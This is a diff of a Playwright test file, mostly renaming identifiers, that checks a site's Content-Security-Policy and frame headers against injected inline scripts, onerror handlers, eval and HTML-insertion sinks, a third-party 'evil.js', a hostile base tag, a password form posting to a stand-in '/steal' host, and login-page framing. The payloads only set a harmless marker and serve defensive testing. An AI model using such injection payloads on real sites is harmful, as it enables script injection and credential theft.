@@ -2,8 +2,8 @@
 import type { Page } from 'playwright/test';
 import { expect, test } from '../support/fixtures';
 
-const STRANGER = 'http://stranger.example';
-const MARK = "document.documentElement.dataset.hacked = 'yes';";
+const OTHER_ORIGIN = 'http://stranger.example';
+const INJECTED_SCRIPT = "document.documentElement.dataset.hacked = 'yes';";
 
 /** Serves `path` with `markup` in its head and without some headers. */
 async function poison(page: Page, path: string, markup: string, without: string[]): Promise<void> {
@@ -18,21 +18,21 @@ async function poison(page: Page, path: string, markup: string, without: string[
 }
 
 /** Acts as a third-party server, and returns the requests it gets. */
-async function stranger(page: Page, body: string): Promise<string[]> {
+async function runFromOtherOrigin(page: Page, body: string): Promise<string[]> {
   const requests: string[] = [];
   const contentType = body.startsWith('<') ? 'text/html' : 'text/javascript';
-  await page.route(`${STRANGER}/**`, async (route) => {
+  await page.route(`${OTHER_ORIGIN}/**`, async (route) => {
     requests.push(`${route.request().method()} ${route.request().url()}`);
     await route.fulfill({ body, contentType });
   });
   return requests;
 }
 
-const IMAGE = JSON.stringify(`<img src="/nothing.png" onerror="${MARK}">`);
+const INJECTED_IMAGE = JSON.stringify(`<img src="/nothing.png" onerror="${INJECTED_SCRIPT}">`);
 /** Scripts of our own that an attacker could abuse. */
 const WEAK_SCRIPTS = {
-  '/assets/eval.js': `eval(${JSON.stringify(MARK)})`,
-  '/assets/markup.js': `document.documentElement.insertAdjacentHTML('beforeend', ${IMAGE})`,
+  '/assets/eval.js': `eval(${JSON.stringify(INJECTED_SCRIPT)})`,
+  '/assets/markup.js': `document.documentElement.insertAdjacentHTML('beforeend', ${INJECTED_IMAGE})`,
 };
 
 /** Runs in the page. */
@@ -45,10 +45,10 @@ const postElsewhere = (address: string) => {
 };
 
 const attacks: readonly (readonly [name: string, markup: string, violation: string])[] = [
-  ['an inline script', `<script>${MARK}</script>`, 'script-src-elem inline'],
+  ['an inline script', `<script>${INJECTED_SCRIPT}</script>`, 'script-src-elem inline'],
   [
     'an inline event handler',
-    `<link rel="stylesheet" href="/nothing.css" onerror="${MARK}">`,
+    `<link rel="stylesheet" href="/nothing.css" onerror="${INJECTED_SCRIPT}">`,
     'script-src-attr inline',
   ],
   ...Object.keys(WEAK_SCRIPTS).map(
@@ -61,15 +61,15 @@ const attacks: readonly (readonly [name: string, markup: string, violation: stri
   ),
   [
     'a third-party script',
-    `<script src="${STRANGER}/evil.js"></script>`,
-    `script-src-elem ${STRANGER}/evil.js`,
+    `<script src="${OTHER_ORIGIN}/evil.js"></script>`,
+    `script-src-elem ${OTHER_ORIGIN}/evil.js`,
   ],
   [
     'a <base> that sends relative URLs to another site',
-    `<base href="${STRANGER}/">`,
-    `base-uri ${STRANGER}/`,
+    `<base href="${OTHER_ORIGIN}/">`,
+    `base-uri ${OTHER_ORIGIN}/`,
   ],
-  ['a form that sends a password to another site', '', `form-action ${STRANGER}/steal`],
+  ['a form that sends a password to another site', '', `form-action ${OTHER_ORIGIN}/steal`],
 ];
 
 for (const [name, markup, violation] of attacks)
@@ -80,16 +80,17 @@ for (const [name, markup, violation] of attacks)
     const attack = async (tab: Page, without: string[]) => {
       for (const [path, body] of Object.entries(WEAK_SCRIPTS))
         await tab.route(path, (route) => route.fulfill({ contentType: 'text/javascript', body }));
-      const requests = await stranger(tab, MARK);
+      const requests = await runFromOtherOrigin(tab, INJECTED_SCRIPT);
       await poison(tab, '/about', markup, without);
       await tab.goto('/about');
-      if (markup === '') await tab.evaluate(postElsewhere, `${STRANGER}/steal`);
-      const isHacked = (stranger: string) =>
-        document.documentElement.dataset.hacked === 'yes' || document.baseURI.startsWith(stranger);
+      if (markup === '') await tab.evaluate(postElsewhere, `${OTHER_ORIGIN}/steal`);
+      const isHacked = (runFromOtherOrigin: string) =>
+        document.documentElement.dataset.hacked === 'yes' ||
+        document.baseURI.startsWith(runFromOtherOrigin);
       const succeeds = async () =>
         requests.some((line) => line.startsWith('POST')) ||
         // A page that's navigating away can't be read.
-        (await tab.evaluate(isHacked, STRANGER).catch(() => false));
+        (await tab.evaluate(isHacked, OTHER_ORIGIN).catch(() => false));
       return { requests, succeeds };
     };
     const tab = await context.newPage();
@@ -110,19 +111,19 @@ test('either of two headers keeps other sites from framing the login; without bo
 }, async ({ page, baseURL, watch }) => {
   watch.allow(/./);
   const address = new URL('/login', baseURL).href;
-  await stranger(page, `<title>Stranger</title><iframe src="${address}"></iframe>`);
+  await runFromOtherOrigin(page, `<title>Stranger</title><iframe src="${address}"></iframe>`);
   const heading = page.frameLocator('iframe').getByRole('heading', { name: 'Login' });
   for (const without of ['x-frame-options', 'content-security-policy']) {
     await poison(page, address, '', [without]);
-    const blocked = page.waitForEvent('requestfailed');
-    await page.goto(`${STRANGER}/`);
-    const request = await blocked;
+    const blockedRequest = page.waitForEvent('requestfailed');
+    await page.goto(`${OTHER_ORIGIN}/`);
+    const request = await blockedRequest;
     expect(request.url()).toBe(address);
     expect(request.failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
     await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
     await expect(heading).toHaveCount(0);
   }
   await poison(page, address, '', ['x-frame-options', 'content-security-policy']);
-  await page.goto(`${STRANGER}/`);
+  await page.goto(`${OTHER_ORIGIN}/`);
   await expect(heading).toBeVisible();
 });
